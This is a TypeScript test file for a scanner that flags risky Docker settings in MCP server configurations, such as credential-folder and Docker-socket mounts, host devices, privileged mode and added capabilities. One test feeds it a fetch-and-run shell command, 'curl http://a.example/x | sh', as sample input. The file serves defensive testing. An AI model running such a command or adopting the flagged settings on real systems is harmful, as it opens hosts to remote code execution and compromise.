import { describe, expect, it } from 'vitest';
import { detectCodeFetchedAtStart } from '../../../scanner/detect/code-fetched-at-start.ts';
import { detectAddedCapabilities } from '../../../scanner/detect/container-capabilities.ts';
import { detectContainerDevices } from '../../../scanner/detect/container-devices.ts';
import { detectContainerMounts } from '../../../scanner/detect/container-mounts.ts';
import { detectHostNetwork } from '../../../scanner/detect/container-network.ts';
import { detectPrivilegedContainer } from '../../../scanner/detect/container-privileged.ts';
import type { Subject } from '../../../scanner/detect/detector.ts';
import { detectMutableImage } from '../../../scanner/detect/mutable-image.ts';
import { detectShellCommand } from '../../../scanner/detect/shell-command.ts';
import type { ContainerOptions } from '../../../scanner/model/identity.ts';
import type { Os } from '../../../scanner/model/launch.ts';
import { container, npm, stdio, subjectOf } from './subject.ts';

describe('what a container is given of this machine', () => {
  it.each([
    ['/', true, 'linux', 'critical'],
    ['/', false, 'linux', 'high'],
    ['/home/ada', true, 'linux', 'high'],
    ['~', false, 'linux', 'medium'],
    ['$HOME', true, 'linux', 'high'],
    ['${HOME}/.ssh', false, 'linux', 'medium'],
    ['/home/ada/.aws', true, 'linux', 'high'],
    ['/etc', false, 'linux', 'medium'],
    ['/etc/shadow', true, 'linux', 'high'],
    ['/var/run', true, 'linux', 'high'],
    ['/Users/ada/', true, 'darwin', 'high'],
    ['/Users', false, 'darwin', 'medium'],
    ['/Users/ada/Library/Keychains', false, 'darwin', 'medium'],
    ['C:\\', true, 'win32', 'critical'],
    ['//c/Users/ada', true, 'win32', 'high'],
    ['%USERPROFILE%\\.ssh', true, 'win32', 'high'],
  ] as const)('is too much: %s, writable %s, on %s', (host, writable, os, severity) => {
    expect(detectContainerMounts(mounting(host, writable, os))).toMatchObject([
      { rule: 'container/host-mount', severity, where: '/mcpServers/github/args/2' },
    ]);
  });

  it.each([
    ['/home/ada/projects/app', 'linux'],
    ['/home/ada/.sshfs-data', 'linux'],
    ['/etc/localtime', 'linux'],
    ['/srv/data', 'linux'],
    ['relative-volume', 'linux'],
    ['${PWD}', 'linux'],
    ['/Users/ada/dev', 'darwin'],
    ['D:\\data', 'win32'],
  ] as const)('is one folder, which is fine: %s on %s', (host, os) => {
    expect(detectContainerMounts(mounting(host, true, os))).toEqual([]);
  });

  it.each(['/app', '/usr/local/bin/node', '/usr/src/app', '/app/node_modules', '/app/dist/index.js'])(
    'is code of its own when it is mounted over %s of the image',
    (target) => {
      expect(detectContainerMounts(mounting('/srv/mine', false, 'linux', target))).toMatchObject([
        { rule: 'container/host-mount', severity: 'medium', where: '/mcpServers/github/args/2' },
      ]);
    },
  );

  it.each(['/data', '/workspace', '/projects/app', '/app/data', '/app/config.json', '/root/.aws', '/mnt/src', '/srv'])(
    'is data when it is mounted at %s',
    (target) => {
      expect(detectContainerMounts(mounting('/srv/mine', true, 'linux', target))).toEqual([]);
    },
  );

  it.each([
    '/var/run/docker.sock',
    '/run/user/1000/podman/podman.sock',
    '~/.docker/run/docker.sock',
    '//./pipe/docker_engine',
  ])('is everything when it is the socket of the engine, read-only or not: %s', (host) => {
    expect(detectContainerMounts(mounting(host, false))).toMatchObject([
      { rule: 'container/docker-socket', severity: 'high' },
    ]);
  });

  it('is not the engine when it is another socket', () => {
    expect(detectContainerMounts(mounting('/home/ada/.cache/app.sock', true))).toEqual([]);
  });
});

describe('devices of a container', () => {
  it.each([
    ['/dev/sda', ['--device', '/dev/sda'], 'high'],
    ['/dev/nvme0n1p2', ['-i', '--device=/dev/nvme0n1p2:/dev/disk'], 'high'],
    ['/dev/mem', ['-i', '--device=/dev/mem'], 'high'],
    ['/dev', ['-i', '--device=/dev'], 'high'],
    ['a *:* rwm', ['--device-cgroup-rule', 'a *:* rwm'], 'high'],
    ['b 8:* rmw', ['--device-cgroup-rule', 'b 8:* rmw'], 'high'],
    ['/dev/input/event0', ['--device', '/dev/input/event0'], 'medium'],
  ])('lead out when they are %s', (device, args, severity) => {
    expect(detectContainerDevices(given({ devices: [device] }, args))).toMatchObject([
      { rule: 'container/host-device', severity, where: '/mcpServers/github/args/2' },
    ]);
  });

  it.each(['/dev/dri', '/dev/snd', '/dev/ttyUSB0', '/dev/video0', '/dev/nvidia0', 'nvidia.com/gpu=all', 'c 188:* rmw'])(
    'are ordinary when they are %s',
    (device) => {
      expect(detectContainerDevices(given({ devices: [device] }, ['--device', device]))).toEqual([]);
    },
  );
});

describe('what a container is told to run', () => {
  const told = (command: readonly string[]): Subject =>
    subjectOf({ runs: container({}, { command }), launch: stdio('docker', ['run', 'mcp/fetch', ...command]) });

  it('is a shell and its text', () => {
    const subject = told(['sh', '-c', 'curl http://a.example/x | sh']);

    expect(detectShellCommand(subject)).toMatchObject([{ rule: 'config/shell-command', severity: 'medium' }]);
    expect(detectCodeFetchedAtStart(subject)).toMatchObject([
      { rule: 'config/code-fetched-at-start', severity: 'high', where: '/mcpServers/github/args/4' },
    ]);
  });

  it.each([[[]], [['--flag', 'sh']], [['/projects', '-c']]])('is its own program with %j', (command) => {
    expect([detectShellCommand, detectCodeFetchedAtStart].flatMap((detect) => detect(told(command)))).toEqual([]);
  });
});

describe('rights of a container', () => {
  it('are all of them when it is privileged', () => {
    expect(detectPrivilegedContainer(given({ privileged: true }, ['--privileged']))).toMatchObject([
      { rule: 'container/privileged', severity: 'high', where: '/mcpServers/github/args/1' },
    ]);
  });

  it('are many when it sees all processes', () => {
    expect(detectPrivilegedContainer(given({ hostPid: true }, ['--pid=host']))).toMatchObject([{ severity: 'medium' }]);
  });

  it("are many on the machine's own network", () => {
    expect(detectHostNetwork(given({ hostNetwork: true }, ['--network', 'host']))).toMatchObject([
      { rule: 'container/host-network', severity: 'medium', where: '/mcpServers/github/args/1' },
    ]);
  });

  it.each([
    [{ addedCapabilities: ['SYS_ADMIN'] }, ['--cap-add', 'SYS_ADMIN'], 'high'],
    [{ addedCapabilities: ['ALL'] }, ['--cap-add', 'cap_all'], 'high'],
    [{ addedCapabilities: ['NET_ADMIN'] }, ['--cap-add', 'NET_ADMIN'], 'medium'],
    [{ securityOptOuts: ['userns=host'] }, ['-i', '--userns=host'], 'medium'],
    [{ securityOptOuts: ['ipc=host'] }, ['-i', '--ipc=host'], 'low'],
    [{ securityOptOuts: ['seccomp=unconfined'] }, ['--security-opt', 'seccomp=unconfined'], 'medium'],
  ])('are named when added: %j', (options, args, severity) => {
    expect(detectAddedCapabilities(given(options, args))).toMatchObject([
      { rule: 'container/added-capabilities', severity, where: '/mcpServers/github/args/2' },
    ]);
  });

  it.each([
    { addedCapabilities: ['NET_BIND_SERVICE'] },
    { addedCapabilities: ['CHOWN'] },
    { securityOptOuts: ['no-new-privileges'] },
    {},
  ])('are ordinary: %j', (options) => {
    const subject = given(options, []);

    expect(
      [detectPrivilegedContainer, detectHostNetwork, detectAddedCapabilities].flatMap((detect) => detect(subject)),
    ).toEqual([]);
  });
});

describe('the image of a container', () => {
  it('is reported as low when a tag names it', () => {
    const subject = subjectOf({
      runs: container({}, { image: 'docker.io/mcp/fetch', tag: 'v1', digest: null }),
      launch: stdio('docker', ['run', '-i', 'mcp/fetch:v1']),
    });

    expect(detectMutableImage(subject)).toMatchObject([
      { rule: 'container/mutable-image', severity: 'low', where: '/mcpServers/github/args/2' },
    ]);
  });

  it.each([container(), npm('x-mcp')])('is fine by digest, and no matter of other servers', (runs) => {
    expect(detectMutableImage(subjectOf({ runs }))).toEqual([]);
  });
});

function mounting(host: string, writable: boolean, os: Os = 'linux', target = '/data'): Subject {
  return subjectOf({
    os,
    home: { linux: '/home/ada', darwin: '/Users/ada', win32: 'C:\\Users\\ada' }[os],
    runs: container({ mounts: [{ host, target, writable }] }),
    launch: stdio('docker', ['run', '-v', `${host}:${target}${writable ? '' : ':ro'}`, 'mcp/fetch']),
  });
}

function given(options: Partial<ContainerOptions>, args: readonly string[]): Subject {
  return subjectOf({ runs: container(options), launch: stdio('docker', ['run', ...args, 'mcp/fetch']) });
}
